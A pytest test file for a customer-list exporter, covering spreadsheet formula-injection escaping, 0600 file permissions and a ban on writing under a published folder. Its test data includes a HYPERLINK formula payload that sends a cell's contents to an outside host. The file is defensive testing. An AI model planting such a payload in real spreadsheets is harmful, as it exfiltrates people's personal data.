"""Lists with names and phones: who may read them, where they may lie, what a cell may hold."""

import csv
import datetime
import os
import stat
from decimal import Decimal

import openpyxl
import pytest

from strata.actions.read import HEADINGS, ActionList
from strata.actions.write import require_own_place, safe_cell, write_list
from strata.errors import StrataError
from strata.settings import load_settings

EVIL = '=HYPERLINK("http://example.org?x="&A1)'
ROW = (
    "013800138000", EVIL, "+1 call", "-2", "@now", " =1+1", "电话", "\tx",
    datetime.date(2025, 6, 30), None, Decimal("12.50"), "wake", "0a-1",
)  # fmt: skip


def lists():
    return ActionList(HEADINGS["zh"], [ROW], [])


@pytest.mark.parametrize("text", [EVIL, "+1", "-2", "@a", "\tx", "\rx", " =1+1"])
def test_a_text_that_a_spreadsheet_would_compute_is_told_to_be_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["013800138000", "李女士", "a=b", "", None, Decimal("-3")])
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_only_its_writer_may_read_the_file(tmp_path, name):
    (tmp_path / name).write_text("of yesterday")
    (tmp_path / name).chmod(0o644)
    (tmp_path / f"{name}.new").write_text("names and phones that a kill left")
    before = os.umask(0)
    try:
        write_list(tmp_path / name, lists())
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.iterdir()] == [name]


def test_csv_holds_the_rows_and_no_formula(tmp_path):
    write_list(tmp_path / "a.csv", lists())
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        headings, row = csv.reader(file)
    assert headings[:2] == ["手机号", "客户姓名"]
    assert row[0] == "013800138000"
    assert row[1] == "'" + EVIL
    assert [cell[0] for cell in row[2:6]] == ["'"] * 4
    assert row[8:11] == ["2025-06-30", "", "12.50"]


def test_a_workbook_holds_the_rows_and_no_formula(tmp_path):
    write_list(tmp_path / "a.xlsx", lists())
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert cells[0].value == "013800138000"
    assert {cell.data_type for cell in cells} == {"s", "d", "n"}
    assert cells[1].value == "'" + EVIL


@pytest.mark.parametrize("place", ["published/a.csv", "published/deep/a.csv", "link/a.csv"])
def test_never_below_published(tmp_path, place):
    settings = load_settings(tmp_path)
    (tmp_path / "published/deep").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "published")
    with pytest.raises(StrataError, match="below published"):
        require_own_place(settings, tmp_path / place)
    require_own_place(settings, tmp_path / "a.csv")


def test_a_folder_that_is_not_there_is_named(tmp_path):
    with pytest.raises(StrataError, match="does not exist"):
        require_own_place(load_settings(tmp_path), tmp_path / "nowhere/a.csv")
